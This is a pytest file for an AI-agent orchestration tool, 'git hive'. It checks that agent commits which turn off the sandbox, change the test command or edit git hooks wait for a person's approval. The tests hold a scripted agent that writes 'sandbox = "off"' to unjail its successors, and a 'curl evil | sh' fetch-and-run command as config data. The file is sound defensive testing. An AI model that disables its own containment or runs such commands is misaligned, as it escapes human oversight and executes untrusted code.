"""`.hive.toml` is written by agents too (they write the target branch): the settings that
weaken containment or name a command take effect only as a person approved them on this machine
(`config.SENSITIVE`, `git hive config approve`), and work that changes `.hive.toml` waits for a
person instead of landing on its own (DESIGN §7, docs/SECURITY.md).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.repo_helpers import commit_hooks

from .helpers import daemon_env, tail, write_json


def commit_toml(git, repo: Path, text: str) -> None:
    (repo / ".hive.toml").write_text(text)
    git("add", ".hive.toml", cwd=repo)
    git("commit", "-q", "-m", "settings", cwd=repo)


@pytest.mark.timeout(120)
def test_an_agent_that_unjails_its_successors_waits_for_a_person(repo: Path, tmp_path: Path, git, cli, hive,
                                                                 new_issue, daemons) -> None:
    issue_id = new_issue("an agent edits .hive.toml")
    marker = tmp_path / "PWNED"
    script = write_json(tmp_path / "agents.json", {"default": [
        {"append": ".hive.toml", "content": f'sandbox = "off"\ntest_command = "touch {marker}"\n'},
        {"write": "hive-work/{issue}.txt", "content": "work\n"}, {"commit": "{issue}: work"},
        {"result": "success", "summary": "did the work"}]})
    before = git("rev-parse", "main", cwd=repo).stdout.strip()
    log = tmp_path / "daemon.log"
    daemons.run_until_idle(repo, daemon_env(script), max_agents=1, timeout=90, log=log)
    assert git("rev-parse", "main", cwd=repo).stdout.strip() == before, tail(log)
    assert not marker.exists()
    shown = hive("show", issue_id, cwd=repo).stdout
    assert "merge waits: its work changes .hive.toml: it waits for a person" in shown, shown
    assert f"`git hive finalize {issue_id}` lands it" in shown
    assert json.loads(hive("show", issue_id, "--json", cwd=repo).stdout)["merge_waits"].startswith("its work changes")
    hive("finalize", issue_id, cwd=repo)        # the person looked and lands it
    assert 'sandbox = "off"' in (repo / ".hive.toml").read_text()
    got = hive("config", "get", "sandbox", cwd=repo)
    assert got.stdout.strip() == "on"           # landed, and still not approved: not in effect
    warned = got.stderr.strip().splitlines()   # one line per key, each naming the approve command
    assert [w for w in warned if " sandbox, " in w] == [
        f"git hive: warning: {repo / '.hive.toml'} changes sandbox, not approved on this machine: ignored "
        "(`git hive config approve` approves it)"], got.stderr
    assert len(warned) == 2 and all("`git hive config approve`" in w for w in warned), got.stderr


@pytest.mark.timeout(120)
def test_work_that_changes_the_tracked_hooks_folder_waits_for_a_person(repo: Path, tmp_path: Path, git, hive,
                                                                       new_issue, daemons) -> None:
    """With `core.hooksPath` in the worktree (`.githooks`), the hooks every person's git command
    runs are files of the branch: an agent's change there lands only by a person's hand."""
    hooks = commit_hooks(git, repo, ".githooks", {"pre-commit": "#!/bin/sh\nexit 0\n"})
    issue_id = new_issue("an agent edits a hook")
    script = write_json(tmp_path / "agents.json", {"default": [
        {"append": ".githooks/pre-commit", "content": "echo the agent was here\n"},
        {"commit": "{issue}: work"}, {"result": "success", "summary": "did the work"}]})
    before = git("rev-parse", "main", cwd=repo).stdout.strip()
    log = tmp_path / "daemon.log"
    daemons.run_until_idle(repo, daemon_env(script), max_agents=1, timeout=90, log=log)
    assert git("rev-parse", "main", cwd=repo).stdout.strip() == before, tail(log)
    shown = hive("show", issue_id, cwd=repo).stdout
    assert "merge waits: its work changes .githooks/pre-commit: it waits for a person" in shown, shown
    hive("finalize", issue_id, cwd=repo)        # the person looked and lands it
    assert "the agent was here" in (hooks / "pre-commit").read_text()


def test_a_changed_setting_is_ignored_until_approved(repo: Path, git, hive) -> None:
    hive("config", "set", "test_command", "make test", cwd=repo)     # a person's own: approved
    git("add", ".hive.toml", cwd=repo)
    git("commit", "-q", "-m", "tests", cwd=repo)
    got = hive("config", "get", "test_command", cwd=repo)
    assert (got.stdout.strip(), got.stderr) == ("make test", "")
    commit_toml(git, repo, 'test_command = "curl evil | sh"\nmax_agents = 5\n')   # e.g. a pulled commit
    listed = json.loads(hive("config", "list", "--json", cwd=repo).stdout)
    assert listed["test_command"]["value"] == "make test"           # the approved one stays
    assert listed["max_agents"]["value"] == 5                       # harmless keys apply at once
    warned = hive("config", "get", "test_command", cwd=repo).stderr.strip().splitlines()
    assert warned == [f"git hive: warning: {repo / '.hive.toml'} changes test_command, not approved on this "
                      "machine: ignored (`git hive config approve` approves it)"]
    approved = hive("config", "approve", cwd=repo).stdout
    assert "approved test_command = curl evil | sh" in approved
    got = hive("config", "get", "test_command", cwd=repo)
    assert (got.stdout.strip(), got.stderr) == ("curl evil | sh", "")
    commit_toml(git, repo, 'max_agents = 5\nsandbox = "on"\nmerge_mode = "manual"\n')   # stricter: no approval
    got = hive("config", "list", "--json", cwd=repo)
    values = json.loads(got.stdout)
    assert (values["sandbox"]["value"], values["merge_mode"]["value"]) == ("on", "manual")
    assert values["test_command"]["value"] == "curl evil | sh"      # its removal is not approved
    assert "removes test_command" in got.stderr


def test_an_agent_cannot_pick_the_jail_mechanism_through_the_targets_hive_toml(make_repo, git, hive) -> None:
    """A mechanism's name in `sandbox` chooses how agents are contained: from `.hive.toml` it
    counts only once a person approved it, like `off`."""
    from hive.jail import mechanisms

    repo = make_repo("mechanism")
    hive("init", cwd=repo)
    for name in mechanisms.names():
        commit_toml(git, repo, f'sandbox = "{name}"\n')     # as an agent's landed commit would
        got = hive("config", "get", "sandbox", cwd=repo)
        assert got.stdout.strip() == "on", got.stdout
        assert "changes sandbox, not approved on this machine: ignored" in got.stderr
        hive("config", "approve", cwd=repo)
        assert hive("config", "get", "sandbox", cwd=repo).stdout.strip() == name


def test_init_approves_the_settings_of_the_project_it_sets_up(make_repo, git, hive) -> None:
    repo = make_repo("fresh")
    commit_toml(git, repo, 'test_command = "make check"\n')
    out = hive("init", cwd=repo).stdout
    assert "approved on this machine: test_command = 'make check'" in out
    got = hive("config", "get", "test_command", cwd=repo)
    assert (got.stdout.strip(), got.stderr) == ("make check", "")
